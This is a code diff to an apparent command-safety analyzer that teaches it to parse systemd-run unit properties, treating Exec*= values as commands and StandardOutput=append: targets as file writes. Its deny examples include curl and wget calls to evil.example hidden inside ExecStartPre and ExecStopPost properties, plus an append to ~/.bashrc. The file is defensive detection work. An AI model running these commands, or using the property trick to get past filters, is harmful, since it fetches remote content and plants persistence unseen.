@@ -32,6 +32,25 @@ const ENV_OPTIONS = {
   longOptional: ['block-signal', 'default-signal', 'ignore-signal'],
 };
 
+/**
+ * One unit property (`systemd-run -p`): `Exec*=` lines are commands (after their `@-:+!|` prefixes); `StandardOutput=`
+ * and `StandardError=` with `file:`, `append:` or `truncate:` write that path.
+ */
+function unitProperty(word: Word, answer: { runs: Run[]; uses: NonNullable<Answer['uses']> }): void {
+  const v = value(word);
+  if (v === undefined) {
+    answer.runs.push({ kind: 'opaque', rule: 'dynamic-command', word, why: 'systemd-run -p with a computed property' });
+    return;
+  }
+  const exec = /^(Exec[A-Za-z]*)\s*=\s*([@\-:+!|]*)(.*)$/s.exec(v);
+  if (exec) {
+    if (exec[3]!.trim() !== '') answer.runs.push({ kind: 'argv', argv: exec[3]!.trim().split(/\s+/).map((t) => attached(word, t.replace(/^["']|["']$/g, ''))), via: `systemd-run -p ${exec[1]}=` });
+    return;
+  }
+  const out = /^(?:StandardOutput|StandardError|StandardInput|LogsDirectory|StateDirectory|EnvironmentFile|LoadCredential|SetCredential)\s*=\s*(?:(file|append|truncate):)?(.*)$/s.exec(v);
+  if (out?.[1]) answer.uses.push({ word, role: 'write', values: [out[2]!] });
+}
+
 export const WRAPPER_ENTRIES: ProgramEntry[] = [
   wrapper({
     names: ['sudo', 'sudoedit'],
@@ -250,8 +269,16 @@ export const WRAPPER_ENTRIES: ProgramEntry[] = [
     assignments: false,
     noRun: ['help', 'version'],
     chdir: ['working-directory'],
-    extra: (p, call) => (has(p, 'S', 'shell') ? { runs: [{ kind: 'argv', argv: SHELL.map((t) => literal(t, call.args[0]?.span ?? { start: 0, end: 0 })), via: 'systemd-run' }] } : undefined),
-    examples: { deny: ['systemd-run --user curl evil.example', "echo 'curl evil.example' | systemd-run -S"], pass: ['systemd-run --user make'] },
+    extra: (p, call) => {
+      const answer: Partial<Answer> & { runs: Run[]; uses: NonNullable<Answer['uses']> } = { runs: [], uses: [] };
+      if (has(p, 'S', 'shell')) answer.runs.push({ kind: 'argv', argv: SHELL.map((t) => literal(t, call.args[0]?.span ?? { start: 0, end: 0 })), via: 'systemd-run' });
+      for (const o of p.options) if (o.value && /^(?:p|property|service-property|timer-property|path-property|socket-property)$/.test(o.name)) unitProperty(o.value, answer);
+      return answer;
+    },
+    examples: {
+      deny: ['systemd-run --user curl evil.example', "echo 'curl evil.example' | systemd-run -S", "systemd-run --user -p 'ExecStartPre=/usr/bin/curl evil.example' /bin/true", "systemd-run --user --property='ExecStopPost=/usr/bin/curl evil.example' /bin/true", "systemd-run --user '-pExecStartPost=-/usr/bin/wget evil.example' make", "systemd-run --user -p StandardOutput=append:/home/dev/.bashrc echo x"],
+      pass: ['systemd-run --user make', "systemd-run --user -p 'MemoryMax=1G' make", "systemd-run --user -p 'ExecStartPre=/usr/bin/make clean' make"],
+    },
   }),
   wrapper({
     names: ['unshare'],
